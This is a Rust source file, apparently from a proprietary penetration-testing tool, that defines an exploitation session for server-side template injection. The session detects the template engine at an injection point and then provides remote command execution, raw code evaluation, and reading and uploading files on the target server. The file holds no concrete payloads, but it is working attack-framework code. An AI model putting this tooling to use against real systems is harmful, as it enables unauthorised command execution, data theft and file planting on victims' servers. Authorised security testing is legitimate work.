// Copyright (c) 2025 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Exploitation Session
 * Runs detection once and shares the resolved context with the command
 * executor and file channel for the rest of the session
 *
 * @copyright 2025 Bountyy Oy
 * @license Proprietary
 */

use crate::config::{ExploitConfig, TransferConfig};
use crate::detector::{EngineDetector, ProbeResult};
use crate::engines;
use crate::errors::ExploitResult;
use crate::executor::CommandExecutor;
use crate::file_channel::{FileChannel, ReadReport, WriteReport};
use crate::oracle::InjectionOracle;
use std::sync::Arc;
use tracing::{info, warn};

pub struct ExploitSession {
    probe: ProbeResult,
    executor: CommandExecutor,
    files: FileChannel,
    transfer: TransferConfig,
}

impl ExploitSession {
    /// Detect the engine behind `oracle` and build a ready session.
    ///
    /// Fails with `ContextUnresolved` or `EngineMismatch` when the injection
    /// point cannot be driven with the configured engine.
    pub async fn establish(
        oracle: Arc<dyn InjectionOracle>,
        config: &ExploitConfig,
    ) -> ExploitResult<Self> {
        let profile = engines::by_name(&config.detection.engine)?;
        let detector = EngineDetector::new(oracle, profile)
            .with_max_level(config.detection.max_level);

        let (probe, injector) = detector.probe(config.detection.probe_exec).await?;
        info!(
            engine = %probe.engine,
            scripting = probe.scripting_enabled,
            exec = probe.exec_enabled,
            "[SSTI] Session established"
        );

        let executor = CommandExecutor::new(injector);
        let files = FileChannel::new(executor.clone())
            .with_chunk_size(config.transfer.chunk_size)
            .with_chunk_confirmation(config.transfer.confirm_chunks);

        Ok(Self {
            probe,
            executor,
            files,
            transfer: config.transfer.clone(),
        })
    }

    pub fn probe(&self) -> &ProbeResult {
        &self.probe
    }

    pub fn executor(&self) -> &CommandExecutor {
        &self.executor
    }

    pub fn files(&self) -> &FileChannel {
        &self.files
    }

    pub async fn execute(&self, command: &str) -> ExploitResult<String> {
        if !self.probe.exec_enabled {
            warn!("[SSTI] Command execution was not confirmed for this session");
        }
        self.executor.execute(command).await
    }

    /// Run raw engine-language code with no captured output
    pub async fn evaluate(&self, code: &str) -> ExploitResult<bool> {
        self.executor.injector().evaluate(code).await
    }

    pub async fn read(&self, remote_path: &str) -> ExploitResult<ReadReport> {
        self.files.read(remote_path).await
    }

    /// Upload honouring the configured overwrite flag
    pub async fn write(&self, data: &[u8], remote_path: &str) -> ExploitResult<WriteReport> {
        self.files
            .write(data, remote_path, self.transfer.overwrite)
            .await
    }
}
